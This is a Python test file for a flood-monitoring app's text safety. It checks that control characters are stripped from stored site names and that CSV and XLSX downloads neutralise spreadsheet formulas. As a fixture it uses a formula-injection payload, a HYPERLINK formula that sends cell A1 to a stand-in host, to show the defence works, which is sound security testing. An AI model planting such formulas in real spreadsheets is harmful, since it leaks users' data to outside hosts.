"""Text rules at the edges: control characters never stored, formulas never exported."""

from __future__ import annotations

import io
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from pantau.access.auth import authenticate
from pantau.floods.sla import ServiceLevel
from pantau.kernel.safetext import clean, defuse, export_frame
from pantau.sites.rules import edit_site
from pantau.store import Database

pytestmark = pytest.mark.both_engines

NOW = datetime(2026, 11, 24, 3, 0)
PLUIT = "31.72.01.1005"


@pytest.mark.parametrize(
    ("raw", "stored"),
    [
        ("Pasar\x01Pluit", "PasarPluit"),
        ("a\x00b", "ab"),
        ("baris\nkedua\ttab", "baris\nkedua\ttab"),
        ("\x1b[31mmerah", "[31mmerah"),
        (12, 12),
        (None, None),
    ],
)
def test_clean_removes_control_characters_only(raw: object, stored: object) -> None:
    assert clean(raw) == stored


@pytest.mark.parametrize(
    ("raw", "out"),
    [
        ('=HYPERLINK("http://x/?a="&A1,"klik")', '\'=HYPERLINK("http://x/?a="&A1,"klik")'),
        ("+62 812", "'+62 812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-", "-"),
        ("Pasar Pluit", "Pasar Pluit"),
        (-5, -5),
    ],
)
def test_defuse_makes_formulas_literal(raw: object, out: object) -> None:
    assert defuse(raw) == out


def test_a_site_name_with_a_control_character_is_stored_clean(sample_copy: Database) -> None:
    """A lurah once saved `Pasar\\x01Pluit`; every XLSX download then failed."""
    lurah = authenticate(sample_copy, "lurah.pluit", "demo-lurah", NOW)
    site = next(s for s in sample_copy.read().records.rows("sites") if s["kelurahan_kode"] == PLUIT)
    edit_site(
        sample_copy, lurah, int(site["id"]), int(site["version"]), {"name": "Pasar\x01Pluit"}, NOW
    )
    stored = sample_copy.read().records.get("sites", int(site["id"]))
    assert stored is not None and stored["name"] == "PasarPluit"
    history = sample_copy.read().events.for_record("site", int(site["id"]))
    assert not history["new_value"].astype("string").str.contains("\x01", na=False).any()


def test_an_export_frame_opens_as_text_in_a_spreadsheet() -> None:
    frame = pd.DataFrame(
        {"nama": ["=1+1", "biasa", "x\x01y"], "angka": [1, -2, 3]},
    )
    buffer = io.BytesIO()
    export_frame(frame).to_excel(buffer, index=False)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [["'=1+1", 1], ["biasa", -2], ["xy", 3]]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_meeting_workbook_carries_no_live_formula(sample_copy: Database) -> None:
    """Site names starting with `=` once went out as live formulas in the meeting XLSX."""
    from datetime import date

    from pantau.meeting.brief import workbook
    from pantau.meeting.review import build_brief

    session = sample_copy.read()
    for site in session.records.rows("sites"):
        session.records.update(
            "sites", site["id"], {"name": '=HYPERLINK("http://x/?a="&A1,"klik")'}
        )
    brief = build_brief(sample_copy, date(2026, 11, 24), date(2026, 11, 17), NOW)
    book = openpyxl.load_workbook(io.BytesIO(workbook(brief)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_site_and_report_list_downloads_carry_no_live_formula(sample_copy: Database) -> None:
    """The list pages' CSV and XLSX downloads go through the same writer as the brief."""
    from pantau.floods import listing as report_list
    from pantau.sites import listing as site_list

    session = sample_copy.read()
    formula = '=HYPERLINK("http://x/?a="&A1,"klik")'
    for site in session.records.rows("sites"):
        session.records.update("sites", site["id"], {"name": formula})
    for report in session.records.rows("reports")[:20]:
        session.records.update("reports", report["id"], {"note": formula})
    sekko = authenticate(sample_copy, "sekko", "demo-sekko", NOW)
    sites = site_list.site_rows(sample_copy, site_list.SiteQuery(), NOW)
    reports = report_list.report_rows(
        sample_copy, sekko, report_list.ReportQuery(), NOW, ServiceLevel()
    )
    downloads = [
        site_list.to_xlsx(sites),
        report_list.to_xlsx(reports, sekko),
    ]
    for data in downloads:
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        dated = [c for c in cells if isinstance(c.value, datetime)]
        assert dated  # times stay dates in the sheet (no time zone; Excel keeps none)
    for text in (site_list.to_csv(sites), report_list.to_csv(reports, sekko)):
        lines = text.decode("utf-8-sig").splitlines()
        assert not any(cell.startswith("=") for line in lines for cell in line.split(","))
